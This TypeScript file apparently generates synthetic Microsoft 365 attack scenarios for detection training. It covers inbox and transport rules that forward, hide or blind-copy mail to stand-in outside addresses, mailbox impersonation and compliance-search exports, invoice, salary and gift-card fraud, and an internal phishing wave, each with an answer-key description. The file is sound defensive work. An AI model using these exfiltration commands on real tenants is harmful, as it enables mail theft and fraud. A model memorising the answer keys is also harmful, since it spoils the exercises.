import type { Plan } from "../scenario.ts";
import { HOUR, MINUTE, SECOND } from "../calendar.ts";
import { signin } from "../entra.ts";
import { netOf } from "../everyday-people.ts";
import { click, command, mail, mailbox, zap } from "../m365.ts";
import { campusNet, hostileNet, residentialNet } from "../places.ts";
import { has, ordinary, readMail, times, unit } from "./tools.ts";

const area = "mail" as const;

export const mailAttacks: Plan[] = [
  { kind: "rule-forwards-outside", area, difficulty: "obvious", types: ["account_compromise", "data_exfiltration"],
      times: 2, run: (a) => {
    const { w, rng } = a;
    const victim = a.anybody(ordinary);
    const net = a.net(hostileNet(rng));
    const t = a.at(rng.float(4, 22));
    signin(w, t - 4 * MINUTE, victim, { net, app: "owa", device: null, mfa: "claim" });
    const to = `${rng.base62(8).toLowerCase()}@postbox.example`;
    a.about(to);
    a.core(() => command(w, t, victim, "New-InboxRule", `${victim.sam}\\.`, { Name: rng.pick([".", "..", "a"]),
      ForwardTo: to, DeleteMessage: "True", StopProcessingRules: "True" }, net, { user: true }));
    times(3, (i) => mail(w, t + (1 + i) * HOUR, { from: victim.mail, fromPerson: victim, to, subject: "FW: Agenda",
      direction: "Outbound" }));
    return `From a foreign line a rule is made in the mailbox of ${victim.display} that forwards everything to a `
      + `private address and deletes it.`;
  } },
  { kind: "rule-hides-payment-mail", area, difficulty: "context", types: ["account_compromise", "financial_fraud"],
      run: (a) => {
    const { w, rng } = a;
    const victim = a.anybody(has("payments"));
    const net = a.net(residentialNet(rng));
    const t = a.at(rng.float(18, 22));
    signin(w, t - 6 * MINUTE, victim, { net, app: "owa", device: null, mfa: "claim" });
    readMail(a, t - 3 * MINUTE, victim, net, 2);
    a.core(() => command(w, t, victim, "New-InboxRule", `${victim.sam}\\RSS`,
      { Name: "RSS", SubjectOrBodyContainsWords: "invoice;iban;payment;factuur", MoveToFolder: "RSS Feeds",
      MarkAsRead: "True" }, net, { user: true }));
    return `Somebody on an unknown line hides messages about payments of ${victim.display} in the RSS folder.`;
  } },
  { kind: "mailbox-forwarded-by-administrator", area, difficulty: "context",
      types: ["data_exfiltration", "insider_threat"], run: (a) => {
    const { w, rng } = a;
    const admin = a.admin("m365");
    const victim = a.anybody(has("lead"));
    const t = a.at(rng.float(11, 15));
    const address = `${victim.sam}.copy@freemail.example`;
    a.core(() => command(w, t, admin, "Set-Mailbox", victim.sam,
      { Identity: victim.sam, ForwardingSmtpAddress: `smtp:${address}`, DeliverToMailboxAndForward: "True" },
      campusNet(rng, 24)));
    times(4, (i) => mail(w, t + (2 + i * 3) * HOUR, { from: victim.mail, fromPerson: victim, to: address,
      subject: rng.pick(["Agenda", "Confidential: merger study", "Re: budget"]), direction: "Outbound" }));
    return `A mail administrator lets copies of all messages of ${victim.display} go to a free mail address, outside `
      + `the change window.`;
  } },
  { kind: "curious-administrator-in-the-rectors-mailbox", area, difficulty: "context",
      types: ["insider_threat", "privilege_escalation"], run: (a) => {
    const { w, rng } = a;
    const admin = a.admin("m365");
    const rector = w.people.find((p) => p.title === "Rector")!;
    a.about(rector.upn);
    const net = campusNet(rng, 24);
    const t = a.at(rng.float(12, 13.5));
    a.core(() => {
      command(w, t, admin, "Add-MailboxPermission", rector.sam, { Identity: rector.sam, User: admin.upn,
        AccessRights: "FullAccess", AutoMapping: "False" }, net);
      times(6, (i) => mailbox(w, t + (5 + i * 4) * MINUTE, admin, "MailItemsAccessed",
        { net, owner: rector, count: rng.int(10, 25) }));
    });
    command(w, t + 50 * MINUTE, admin, "Remove-MailboxPermission", rector.sam, { Identity: rector.sam, User: admin.upn,
      AccessRights: "FullAccess" }, net);
    return `${admin.display} takes full access to the mailbox of the rector at lunch, reads it, and removes the right.`;
  } },
  { kind: "invoice-with-new-account-number", area, difficulty: "context",
      types: ["financial_fraud", "account_compromise"], run: (a) => {
    const { w, rng } = a;
    const victim = a.staff((p) => p.tags.has("payments") || p.unitCode === "fin");
    const real = "labsupply.example";
    const fake = rng.pick(["labsuppIy.example", "lab-supply-nl.example", "labsupplly.example"]).toLowerCase();
    a.about(fake);
    const t = a.at(rng.float(9, 12));
    a.core(() => {
      mail(w, t, { from: `accounts@${fake}`, name: "LabSupply Accounts", to: victim.mail, toPerson: victim,
        subject: "Re: Invoice for instruments - updated bank details", direction: "Inbound", ip: hostileNet(rng).ip,
        attachment: ["bank_confirmation.pdf", 148_221], first: true,
          auth: '{"SPF":"pass","DKIM":"pass","DMARC":"bestguesspass"}' });
      mail(w, t + 26 * MINUTE, { from: `accounts@${fake}`, name: "LabSupply Accounts", to: victim.mail,
        toPerson: victim, subject: "Re: Re: Invoice for instruments - updated bank details", direction: "Inbound",
        ip: hostileNet(rng).ip });
    });
    mail(w, t + 55 * MINUTE, { from: victim.mail, fromPerson: victim, to: `accounts@${fake}`,
      subject: "Re: Re: Invoice for instruments - updated bank details", direction: "Outbound" });
    return `A sender at ${fake}, which looks like the supplier ${real}, takes over a thread and gives `
      + `${victim.display} new bank details.`;
  } },
  { kind: "blind-copy-of-all-mail", area, difficulty: "obvious", types: ["data_exfiltration", "account_compromise"],
      run: (a) => {
    const { w, rng } = a;
    const admin = a.admin("m365");
    const net = a.net(hostileNet(rng));
    const t = a.at(rng.float(2, 5));
    signin(w, t - 3 * MINUTE, admin, { net, app: "exops", device: null, mfa: "claim" });
    a.core(() => command(w, t, admin, "New-TransportRule", "Journaling",
      { Name: "Journaling", SentToScope: "InOrganization", FromMemberOf: "Rectorate",
      BlindCopyTo: `archive${rng.int(1, 9)}@mailstore.example`, Priority: "0" }, net));
    return `A new transport rule sends blind copies of the mail of the rectorate outside, made at night from a rented `
      + `server.`;
  } },
  { kind: "false-salary-account", area, difficulty: "hard", types: ["financial_fraud"], run: (a) => {
    const { w, rng } = a;
    const clerk = a.staff((p) => p.title === "Payroll Officer" || p.unitCode === "hr");
    const victim = a.anybody(has("professor"));
    const from = `${victim.display.toLowerCase().replace(" ", ".")}.private@freemail.example`;
    a.about(from);
    const t = a.at(rng.float(9, 15));
    a.core(() => mail(w, t, { from, name: victim.display, to: clerk.mail, toPerson: clerk,
      subject: "Change of my bank account for salary", direction: "Inbound", ip: hostileNet(rng).ip, first: true }));
    mail(w, t + 80 * MINUTE, { from: clerk.mail, fromPerson: clerk, to: from,
      subject: "Re: Change of my bank account for salary", direction: "Outbound" });
    a.core(() => mail(w, t + 2 * HOUR, { from, name: victim.display, to: clerk.mail, toPerson: clerk,
      subject: "Re: Re: Change of my bank account for salary", direction: "Inbound", ip: hostileNet(rng).ip,
      attachment: ["form_signed.pdf", 90_113] }));
    return `Somebody writes as ${victim.display} from a free mail address to ${clerk.display} and asks for another `
      + `salary account; the clerk answers.`;
  } },
  { kind: "internal-phish-wave", area, difficulty: "obvious", types: ["account_compromise"], run: (a) => {
    const { w, rng } = a;
    const victim = a.anybody((p) => p.tags.has("faculty") && p.kind === "staff");
    const net = a.net(hostileNet(rng));
    const t = a.at(rng.float(8, 10));
    const place = rng.pick(["formhost", "pages-dev", "webflow-eu"]);
    const url = `https://sharepoint-waalhaven.${place}.example/doc/${rng.hex(8)}`;
    signin(w, t - 12 * MINUTE, victim, { net, app: "owa", device: null, mfa: "claim" });
    for (const [i, p] of a.many(95).entries()) {
      const send = (): string => mail(w, t + i * 900, { from: victim.mail, fromPerson: victim, to: p.mail, toPerson: p,
        subject: "Shared with you: salary scales 2027", direction: "Intra-org", url,
        threat: i > 60 ? "Phish" : "", action: i > 60 ? "Blocked" : "Delivered" });
      const id = i < 12 ? a.core(send) : send();
      if (i % 17 === 3) click(w, t + (9 + i) * MINUTE, p, url, id, netOf(rng, p, a.day));
      if (i < 60 && i % 2) zap(w, t + 70 * MINUTE + i * SECOND, p.mail, id);
    }
    mailbox(w, t + 5 * MINUTE, victim, "HardDelete",
      { net, items: ["Shared with you: salary scales 2027", "Undeliverable: Shared with you"],
      folder: "\\Sent Items" });
    return `The stolen account of ${victim.display} sends a link to 95 colleagues within two minutes and removes the `
      + `traces.`;
  } },
  { kind: "impersonation-of-all-mailboxes", area, difficulty: "context",
      types: ["privilege_escalation", "data_exfiltration"], run: (a) => {
    const { w, rng } = a;
    const admin = a.admin("m365");
    const sa = w.services.find((s) => s.sam === "svc-timetable")!;
    a.about(sa.upn);
    const net = a.net(residentialNet(rng));
    const t = a.at(rng.float(20, 23));
    a.core(() => command(w, t, admin, "New-ManagementRoleAssignment", "EWS-App",
      { Name: "EWS-App", Role: "ApplicationImpersonation", User: sa.upn }, net));
    for (const [i, p] of a.many(14, has("professor")).entries()) {
      const read = (): string => mailbox(w, t + (15 + i * 2) * MINUTE, sa, "MailItemsAccessed",
        { net, owner: p, count: 50, client: "Client=WebServices;ExchangeWebServicesProxy/CrossSite;", access: "Sync" });
      if (i < 5) a.core(read);
      else read();
    }
    return `A service account of the timetable may impersonate every mailbox since an evening change and reads those `
      + `of many professors.`;
  } },
  { kind: "search-of-mailboxes-without-a-case", area, difficulty: "context",
      types: ["insider_threat", "data_exfiltration"], run: (a) => {
    const { w, rng } = a;
    const admin = a.admin(rng.pick(["security", "m365"]));
    const net = admin.home;
    const t = a.at(rng.float(19.5, 22));
    const name = `test${rng.int(1, 9)}`;
    a.core(() => {
      command(w, t, admin, "New-ComplianceSearch", name, { Name: name, ExchangeLocation: "All",
        ContentMatchQuery: "reorganisation OR dismissal OR \"salary scale\"" }, net);
      command(w, t + 30 * MINUTE, admin, "New-ComplianceSearchAction", name,
        { SearchName: name, Export: "True", Format: "FxStream" }, net);
    });
    command(w, t + 2 * HOUR, admin, "Remove-ComplianceSearch", name, { Identity: name, Confirm: "False" }, net);
    return `Somebody of IT, not of the legal office, searches all mailboxes for a reorganisation in the evening, `
      + `exports it and deletes the search.`;
  } },
  { kind: "allow-list-for-a-bad-sender", area, difficulty: "context", types: ["sabotage", "account_compromise"],
      run: (a) => {
    const { w, rng } = a;
    const admin = a.admin("security");
    const domain = `prize-office${rng.int(2, 30)}.example`;
    a.about(domain);
    const net = a.net(hostileNet(rng));
    const t = a.at(rng.float(6, 7.5));
    a.core(() => command(w, t, admin, "New-TenantAllowBlockListItems", "Sender",
      { ListType: "Sender", Allow: "True", Entries: domain, NoExpiration: "True" }, net));
    for (const [i, p] of a.many(22).entries()) {
      mail(w, t + HOUR + i * 3000, { from: `hr@${domain}`, to: p.mail, toPerson: p, subject: "Performance bonus letter",
        direction: "Inbound", ip: net.ip, attachment: ["bonus.html", 31_220], detection: "",
        auth: '{"SPF":"fail","DKIM":"none","DMARC":"fail"}',
        hash: "5f3a".padEnd(64, "c1") });
    }
    return `A sender is allowed for the whole tenant, and an hour later HTML attachments of that sender reach 22 `
      + `people although all checks fail.`;
  } },
  { kind: "false-dean-wants-gift-cards", area, difficulty: "context", types: ["financial_fraud"], run: (a) => {
    const { w, rng } = a;
    const dean = w.people.filter((p) => p.title === "Dean")[rng.int(0, 5)]!;
    const from = `dean.office.${rng.int(10, 99)}@webmail.example`;
    a.about(from, dean.upn);
    const staff = a.many(9, (p) => p.unitCode === dean.unitCode && p !== dean);
    for (const [i, p] of staff.entries()) {
      a.core(() => mail(w, a.at(8.9) + i * 40 * SECOND, { from, name: dean.display, to: p.mail, toPerson: p,
        subject: "Are you available? quick task", direction: "Inbound", ip: hostileNet(rng).ip, first: true }));
    }
    const answer = staff[rng.int(0, staff.length - 1)]!;
    mail(w, a.at(9.6), { from: answer.mail, fromPerson: answer, to: from, subject: "Re: Are you available? quick task",
      direction: "Outbound" });
    mail(w, a.at(9.8), { from, name: dean.display, to: answer.mail, toPerson: answer,
      subject: "Re: Re: gift cards for the committee", direction: "Inbound", ip: hostileNet(rng).ip });
    return `A free mail address with the name of the dean ${dean.display} asks people of the faculty for gift cards; `
      + `one answers.`;
  } },
  { kind: "secretary-deletes-complaints-of-others", area, difficulty: "hard", types: ["insider_threat", "sabotage"],
      run: (a) => {
    const { w, rng } = a;
    const s = a.staff(has("secretary", "delegate"));
    const boss = w.people.find((p) => p.unitCode === s.unitCode && /Dean|Rector/.test(p.title))!;
    a.about(boss.upn);
    const net = netOf(rng, s, a.day);
    a.core(() => times(4, (i) => mailbox(w, a.at(16.2 + i * 0.05), s, "HardDelete",
      { net, owner: boss, items: [rng.pick(["Complaint about the secretariat", "Formal complaint",
      "Integrity report"])], client: "Client=Microsoft.Outlook;;" })));
    return `${s.display}, who may work in the mailbox of ${boss.display}, irrevocably deletes complaints there.`;
  } },
  { kind: "contract-change-from-taken-partner", area, difficulty: "context",
      types: ["financial_fraud", "account_compromise"], run: (a) => {
    const { w, rng } = a;
    const p = a.staff(unit("res"));
    const from = p.contacts[0]!;
    a.about(from);
    const t = a.at(rng.float(9, 14));
    a.core(() => mail(w, t, { from, to: p.mail, toPerson: p,
      subject: "Consortium prepayment: please use the attached account", direction: "Inbound", ip: hostileNet(rng).ip,
      mailFrom: `bounce@${rng.hex(5)}.mailer-vps.example`,
      auth: '{"SPF":"fail","DKIM":"fail","DMARC":"fail","CompAuth":"none"}',
        attachment: ["prepayment_account.pdf", 66_200] }));
    mail(w, t + HOUR, { from: p.mail, fromPerson: p, to: w.people.find((x) => x.title === "Project Controller")!.mail,
      subject: "FW: Consortium prepayment: please use the attached account", direction: "Intra-org" });
    return `A message in the name of the known partner ${from} fails all checks and asks ${p.display} to pay to `
      + `another account; it is passed on to finance.`;
  } },
];
